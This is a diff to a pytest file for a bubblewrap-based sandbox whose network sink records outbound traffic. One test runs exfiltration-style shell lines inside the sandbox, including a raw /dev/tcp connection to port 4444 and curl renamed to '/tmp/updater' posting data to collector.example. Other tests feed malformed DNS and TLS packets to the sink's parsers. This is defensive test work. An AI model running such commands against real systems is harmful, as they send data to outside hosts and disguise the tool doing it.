@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import json
+import struct
 import subprocess
 
 import pytest
 
 from assay.sandbox import InfrastructureError
+from assay.sandbox.bwrap import netsink_server as server
 from assay.sandbox.bwrap.backend import SANDBOX_GID, SANDBOX_UID, BwrapBackend
 from assay.sandbox.bwrap.netsink import NetSink, parse_records
 from assay.sandbox.interface import (
@@ -59,13 +61,16 @@ def _run(backend: BwrapBackend, script: str, *, observer: ObserverKind = Observe
 def test_every_kind_of_client_reaches_the_sink(private_backend: BwrapBackend) -> None:
     script = f"""
     exec 3<>/dev/tcp/203.0.113.9/4444; printf 'raw bytes' >&3; exec 3>&-
+    if (exec 4<>/dev/tcp/203.0.113.9/22); then exit 9; fi  # ssh is refused
     cp /usr/bin/curl /tmp/updater
     /tmp/updater -s -m 5 --data-binary 'k=v' http://collector.example/in
     python3 -c '{_HAND_QUERY}' hand.example
+    curl -s -m 3 --resolve tls.example:443:192.0.2.80 https://tls.example/ || true
     """
     observation = _run(private_backend, script)
     assert observation.exit_code == 0, observation.stderr.data
     network = observation.network
+    assert 22 not in {f.port for f in network.flows}
     raw = next(f for f in network.flows if f.port == 4444)
     assert (raw.address, raw.data, raw.http_method) == ("203.0.113.9", b"raw bytes", "")
     post = next(f for f in network.flows if f.http_method == "POST")
@@ -76,6 +81,8 @@ def test_every_kind_of_client_reaches_the_sink(private_backend: BwrapBackend) ->
     )
     assert post.data.endswith(b"\r\n\r\nk=v") and post.size == len(post.data)
     assert b"<body>OK</body>" in observation.stdout.data  # a plausible answer came back
+    tls = next(f for f in network.flows if f.port == 443)
+    assert (tls.address, tls.tls_name, tls.name) == ("192.0.2.80", "tls.example", "")
     names = {q.name for q in network.queries}
     assert {"collector.example", "hand.example"} <= names
     handed = observation.stdout.data.decode().split()[-1]
@@ -136,3 +143,38 @@ def test_no_namespace_is_left_behind(private_backend: BwrapBackend) -> None:
 def _namespaces() -> set[str]:
     listed = subprocess.run(["lsns", "-t", "net", "-n", "-o", "NS"], capture_output=True, text=True)
     return set(listed.stdout.split())
+
+
+def test_hostile_packets_are_refused_never_a_crash() -> None:
+    def query(name: bytes, flags: int = 0x0100) -> bytes:
+        return struct.pack("!HHHHHH", 1, flags, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+
+    for packet in (
+        b"",
+        b"\x00" * 11,
+        query(b"\x05ab"),  # a label longer than the packet
+        query(b"\x40" + b"a" * 64 + b"\x00"),  # a label over 63 bytes
+        query(b"\xc0\x0c"),  # a compression pointer in the question
+        query(b"\x01a\x00", flags=0x8100),  # a response, not a query
+        query(b"\x01a" * 200 + b"\x00"),  # more labels than a name holds
+    ):
+        assert server.parse_question(packet) is None
+    assert server.parse_question(query(b"\x01a\x02bc\x00"))[2] == "a.bc"  # type: ignore[index]
+
+
+def test_a_tls_hello_is_read_only_as_far_as_it_goes() -> None:
+    for data in (b"\x16", b"\x16\x03\x01\x00\x05\x01", b"\x16" + b"\xff" * 60, b"GET /"):
+        assert server.tls_server_name(data) == ""
+    name = b"sni.example"
+    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
+    hello = b"\x03\x03" + b"r" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
+    hello += struct.pack("!H", len(extension)) + extension
+    record = (
+        b"\x16\x03\x01"
+        + struct.pack("!H", len(hello) + 4)
+        + b"\x01\x00"
+        + struct.pack("!H", len(hello))
+        + hello
+    )
+    assert server.tls_server_name(record) == "sni.example"
+    assert server.tls_server_name(record[:-4]) == "sni.exa"  # cut short: as far as it went
